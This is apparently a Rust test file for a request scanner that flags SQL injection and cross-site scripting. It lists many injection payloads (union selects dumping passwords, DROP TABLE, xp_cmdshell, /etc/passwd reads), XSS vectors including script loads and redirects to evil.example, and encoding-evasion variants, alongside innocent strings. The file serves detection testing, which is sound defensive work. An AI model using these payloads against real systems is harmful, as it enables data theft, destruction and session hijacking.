use super::{
    rules,
    scan::{Found, Rules, Scratch},
};
use proptest::prelude::*;

fn all() -> (Rules, Scratch) {
    let rules = Rules::new(true, true, &[]).unwrap_or_else(|unusable| panic!("{}", unusable.message));
    let scratch = rules.scratch();
    (rules, scratch)
}

const SQL: &[&str] = &[
    "' or 1=1",
    "' OR '1'='1",
    "' or 'a'='a' --",
    "\" or \"\"=\"",
    "' or ''='",
    "') or ('a'='a",
    "1 or 1=1",
    "1) or (1=1",
    "1 OR 1=1 -- -",
    "1 and 1=2",
    "x' and '1'='2",
    "' or 1--",
    "' or true#",
    "1 or true--",
    "'or'1'='1",
    "'||'1'='1",
    "' || 1=1 #",
    "' or name like '%a%",
    "' or id in (1,2)",
    "' or password is not null--",
    "' or not 1=2",
    "' and 2 between 1 and 3",
    "' xor 1=1",
    "admin'--",
    "admin' -- ",
    "admin'#",
    "admin'/*",
    "admin\"--",
    "admin') -- x",
    "' UNION SELECT null,null--",
    "1 union select 1,2,3",
    "1 UNION ALL SELECT username, password FROM users",
    "-1' union select group_concat(table_name) from information_schema.tables",
    "1 union(select(1),2)",
    "1 union distinct select @@version",
    "1/**/union/**/select/**/1",
    "1/*!50000union*//*!50000select*/1,2",
    "1 un\0ion sel\0ect 1",
    "1\tunion\n\rselect\x0b1",
    "uNiOn SeLeCt 1",
    "1%20union%20select%201",
    "1+union+select+1,2",
    "1%2520union%2520select%25201",
    "%27%20or%20%271%27%3D%271",
    "\\u0027 or 1=1",
    "{\"id\":\"1\\u0027 or \\u00271\\u0027=\\u00271\"}",
    "%u0027 or 1=1",
    "&#39; or 1=1",
    "&#x27; or 1=1",
    "%uff07 or 1=1",
    "id=1 union/*&id=*/select 1",
    "a=/*&b=' or 1=1--&c=*/",
    "1; drop table users",
    "'; DROP TABLE users; --",
    "x'); drop database shop;--",
    "1;insert into users values (1)",
    "'; exec xp_cmdshell('dir')",
    "'; exec master..xp_cmdshell 'dir'",
    "1; waitfor delay '0:0:5'--",
    "'; shutdown--",
    "1;select pg_sleep(5)",
    "1; update users set admin=1",
    "x=1;delete from users",
    "delete from users where id=1",
    "insert into users (name, admin) values ('x', 1)",
    "update users set role='admin' where id=7",
    "select * from users",
    "SELECT password FROM users WHERE name='admin'",
    "select name,pw from users",
    "(select count(*) from users)",
    "1 and (select substring(password,1,1) from users limit 1)='a'",
    "1 and ascii(substring((select database()),1,1))>64",
    "1 and exists(select 1)",
    "1 or sleep(5)",
    "' and sleep(5) and '1'='1",
    "1-sleep(5)",
    "if(now()=sysdate(),sleep(5),0)",
    "benchmark(10000000,md5(1))",
    "pg_sleep(10)",
    "1 order by 10--",
    "' order by 3#",
    "1' group by 1,2 having 1=1",
    "extractvalue(1,concat(0x7e,version()))",
    "' and updatexml(1,concat(0x7e,(select user())),1) and '1",
    "load_file('/etc/passwd')",
    "1 into outfile '/tmp/x'",
    "case when 1=1 then 1 else 2 end",
    "@@version =1",
    "' + (select top 1 name from sysobjects) + '",
    "1 procedure analyse()",
    "char(65,66)",
    "' or/**/1=1",
    "'/**/or/**/'a'/**/like/**/'a",
    "1'/*!or*/1=1",
    "' or\n1=1",
    "-1 OR 17-7=10 or 3=3",
];

const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "< script >alert(1)",
    "</script><script>",
    "<script\n>x",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253E",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&#x3C;script",
    "&#0000060script",
    "%u003cscript%u003e",
    "/*<script>*/",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror = alert(1)",
    "<svg/onload=alert(1)>",
    "<svg onload=alert`1`>",
    "<body onload=x>",
    "<details open ontoggle=confirm(1)>",
    "<x onclick=1>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">",
    "<a href=\"java\tscript:alert(1)\">",
    "<a href=javascript&colon;alert(1)>",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:eval('x')",
    "javascript:/*x*/alert(1)",
    "vbscript:msgbox(1)",
    "<iframe src=//evil.example>",
    "<iframe srcdoc=x>",
    "<object data=x>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example>",
    "<button formaction=javascript:x>",
    "<math href=javascript:x>",
    "<marquee onstart=x>",
    "\" onmouseover=\"alert(1)",
    "' onfocus=alert(1) autofocus='",
    "\"><svg onload=1>",
    "data:text/html,<b>x",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg>",
    "style=\"width:expression(alert(1))\"",
    "c=document.cookie",
    "document['cookie']",
    "window.location='//evil.example'",
    "eval(atob('x'))",
    "String.fromCharCode(88)",
    "x.innerHTML='a'",
    "\";alert(1)//",
    "'-alert(1)-'",
    "x=alert(1)",
    "alert(1)",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}",
    "import('//evil.example/x.js')",
    "<animate attributeName=href values=javascript:x>",
    "<style>@import'//evil.example'</style><b style='-moz-binding:url(x)'>",
];

const INNOCENT: &[&str] = &[
    "",
    "O'Brien",
    "name=O'Brien&city=L'Aquila",
    "D'Arcy and O'Neill",
    "it's 5 o'clock and all's well",
    "rock 'n' roll and jazz",
    "Do you say 'yes' or 'no'?",
    "'yes' or 'no' is the question",
    "the 'cats' or 'dogs' like milk",
    "select a union member",
    "The European Union Select Committee, chaired by Lord X",
    "Please select items from the list where possible.",
    "Select one, or drop the table at the door",
    "drop table reservations",
    "Insert into the slot; update your calendar",
    "insert into the table of contents",
    "delete from my cart",
    "update me, and set a date",
    "please order by 12 o'clock",
    "group by group",
    "we were having 2 beers",
    "in the case when it rains, then we stay",
    "if a > 2 and b > 1",
    "Tom & Jerry; Ben & Jerry's",
    "AT&T <-> Verizon",
    "a < b and c > d",
    "I <3 you",
    "x <- 5; y -> 7",
    "50% off -- today only!",
    "100%+10%",
    "He said \"yes\" -- and left",
    "# heading",
    "see page #5; thanks",
    "C# and F#",
    "It costs $5 (or 4 euros)",
    "width and length (in cm)",
    "and user (admin)",
    "and if (as expected) it fails, count (again)",
    "JavaScript: The Good Parts",
    "Learn javascript: it is fun",
    "Java script",
    "the script is on page 3",
    "Only one=1, on time=2",
    "condition=new&only=true&once=1",
    "on = off",
    "please confirm (or not), then print (twice)",
    "alert: high",
    "documents.write-up",
    "document. Cookie recipes",
    "My window. Open it.",
    "*/*",
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "en-US,en;q=0.5",
    "gzip, deflate, br",
    "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
    "Basic YW5uOnBhc3M6d29yZA==",
    "\"Chromium\";v=\"126\", \"Not;A=Brand\";v=\"8\"",
    "W/\"0815\"",
    "session=abc123; theme=dark; consent=yes",
    "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
    "https://shop.example/search?q=red+shoes&sort=price&order=asc",
    "max-age=0, no-cache",
    "{\"name\":\"O'Brien\",\"note\":\"union made; select grade\"}",
    "{\"color\":\"#fff\",\"sep\":\"--\",\"n\":[1,2,3],\"ok\":true}",
    "{\"math\":\"1 + 1 = 2\",\"or\":\"and\",\"like\":5}",
    "<order id=\"1\"><item>Nails</item><on>yes</on><action>buy</action></order>",
    "<feed><link rel=\"self\" href=\"https://x.example/feed\"/></feed>",
    "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body/></soap:Envelope>",
    "<b>bold</b> and <i>italic</i>",
    "the data: text and html",
    "Zürich, Größe, naïve café",
    "日本語のテキスト、または何か",
    "2024-01-01T00:00:00+01:00",
    "+49 30 123456",
    "C:\\new\\table\\users",
    "regex: ^[a-z]+(or|and)$",
    "price>=10&price<=20",
    "filter=status eq 'open' and owner eq 'ann'",
    "a=1&b=2&or=3",
    "1,2;3,4",
    "sleep (8 hours) is good",
    "and/or",
    "character(s)",
    "@version 2",
    "user@example.com",
];

#[test]
fn attacks_are_found() {
    let (rules, mut scratch) = all();
    let mut missed = String::new();
    for attack in SQL {
        if rules.find(attack.as_bytes(), &mut scratch) != Some(Found::Sql) {
            missed += &format!("{attack:?}\n");
        }
    }
    for attack in XSS {
        // Some are both, and SQL is looked for first.
        if rules.find(attack.as_bytes(), &mut scratch).is_none() {
            missed += &format!("{attack:?}\n");
        }
    }
    assert!(missed.is_empty(), "missed:\n{missed}");
}

#[test]
fn script_is_found_without_the_rules_for_sql() {
    let rules = Rules::new(false, true, &[]).unwrap_or_else(|unusable| panic!("{}", unusable.message));
    let mut scratch = rules.scratch();
    for attack in XSS {
        assert_eq!(
            rules.find(attack.as_bytes(), &mut scratch),
            Some(Found::Xss),
            "{attack}"
        );
    }
    assert_eq!(rules.find(b"1 union select 1", &mut scratch), None);
}

#[test]
fn the_innocent_pass() {
    let (rules, mut scratch) = all();
    let mut accused = String::new();
    for innocent in INNOCENT {
        if let Some(found) = rules.find(innocent.as_bytes(), &mut scratch) {
            accused += &format!("{found:?}: {innocent:?}\n");
        }
    }
    assert!(accused.is_empty(), "accused:\n{accused}");
}

#[test]
fn wrapping_hides_nothing() {
    let (rules, mut scratch) = all();
    let percent = |text: &str| -> String { text.bytes().map(|byte| format!("%{byte:02X}")).collect() };
    let json = |text: &str| -> String {
        text.chars()
            .map(|letter| format!("\\u{:04x}", letter as u32))
            .collect()
    };
    let html = |text: &str| -> String {
        text.chars()
            .map(|letter| format!("&#{};", letter as u32))
            .collect()
    };
    for attack in [
        "' or 1=1--",
        "1 union select 1,2",
        "<script>alert(1)</script>",
        "\" onload=x",
    ] {
        for wrapped in [
            percent(attack),
            percent(&percent(attack)),
            json(attack),
            html(attack),
            percent(&json(attack)),
            html(&percent(attack)),
            attack.to_uppercase(),
            attack.replace(' ', "/**/"),
            attack.replace(' ', "\t\r\n"),
            attack.replace(' ', "+"),
        ] {
            if attack.starts_with(['<', '"']) && wrapped.contains("/**/") {
                continue; // there a comment is no white space
            }
            assert!(
                rules.find(wrapped.as_bytes(), &mut scratch).is_some(),
                "{wrapped}"
            );
        }
    }
}

#[test]
fn custom_rules_are_read_as_written() {
    let rules = Rules::new(false, false, &["(?i)xp_[a-z]+", r"^\$\{jndi:", "a{2,3}b"])
        .unwrap_or_else(|unusable| panic!("{}", unusable.message));
    let mut scratch = rules.scratch();
    let mut find = |text: &str| rules.find(text.as_bytes(), &mut scratch);
    assert_eq!(find("call XP_foo"), Some(Found::Custom(0)));
    assert_eq!(find("${jndi:ldap://x}"), Some(Found::Custom(1)));
    assert_eq!(find("%24%7Bjndi:ldap"), Some(Found::Custom(1)));
    assert_eq!(find("x ${jndi:"), None);
    assert_eq!(find("aab"), Some(Found::Custom(2)));
    assert_eq!(find("' or 1=1"), None, "the gateway's own were not asked for");

    for (bad, part) in [
        ("(", "is not a regular expression"),
        ("(?!x)y", "is not a regular expression"),
        ("(a)\\1", "is not a regular expression"),
        (r"((a{100}){100}){100}", "too large"),
    ] {
        let unusable = Rules::new(true, true, &["fine", bad]).expect_err("unusable");
        assert_eq!(unusable.index, 1);
        assert!(unusable.message.contains(part), "{bad}: {}", unusable.message);
    }
}

/// All states of a list fit its cache, so that no body makes a byte cost more than a look-up. Walked with what such a
/// body would be made of: pieces of the rules themselves, and of the attacks.
#[test]
fn no_value_thrashes_the_automata() {
    let (rules, mut scratch) = all();
    let mut pieces: Vec<String> = Vec::new();
    for rule in [rules::SQL, rules::SQL_WITH_GAPS, rules::XSS, rules::XSS_WITH_GAPS].concat() {
        let plain: String = rule
            .replace("\\b", " ")
            .chars()
            .map(|letter| {
                if "\\[]?*+{}^$".contains(letter) {
                    ' '
                } else {
                    letter
                }
            })
            .collect();
        pieces.extend(plain.split(['|', ':', '(', ')']).map(str::to_owned));
    }
    for attack in SQL.iter().chain(XSS) {
        pieces.extend(attack.split_inclusive([' ', '=', '(']).map(str::to_lowercase));
    }
    // A generator of our own: the same texts in every run.
    let mut seed = 7_u64;
    let mut random = move || {
        seed = seed
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        (seed >> 33) as usize
    };
    let longest = SQL
        .iter()
        .chain(XSS)
        .map(|text| text.len())
        .max()
        .unwrap_or_default();
    for _ in 0..60_000 {
        let mut text = String::new();
        while text.len() < longest * 3 {
            let piece = &pieces[random() % pieces.len()];
            let cut = random() % (piece.len() + 1);
            text += if piece.is_char_boundary(cut) {
                &piece[..cut]
            } else {
                piece
            };
            text += [" ", "", "", "/", ">", ";", "'", "\""][random() % 8];
        }
        // Past what is found, so that every part of it is walked through.
        for start in (0..text.len()).step_by(40) {
            if text.is_char_boundary(start) {
                rules.find(&text.as_bytes()[start..], &mut scratch);
            }
        }
    }
    println!("bytes of the automata: {:?}", scratch.bytes());
    assert_eq!(scratch.clearings(), 0);
}

#[test]
fn a_megabyte_is_scanned() {
    const SIZE: usize = 1024 * 1024;
    let (rules, mut scratch) = all();
    for piece in [
        "a",
        " ",
        "'",
        "%25",
        "%2525",
        "/*",
        "*/",
        "/*!",
        "\\u0027",
        "&#39;",
        "<",
        "<a ",
        "' or ",
        "select ",
        "union ",
        "+",
        "select *, ",
        "<a b",
        "\0",
    ] {
        let text = piece.repeat(SIZE / piece.len());
        let _ = rules.find(text.as_bytes(), &mut scratch);
    }
    assert_eq!(scratch.clearings(), 0);
}

proptest! {
    #[test]
    fn any_bytes_are_judged(bytes: Vec<u8>) {
        let (rules, mut scratch) = all();
        let _ = rules.find(&bytes, &mut scratch);
    }
}
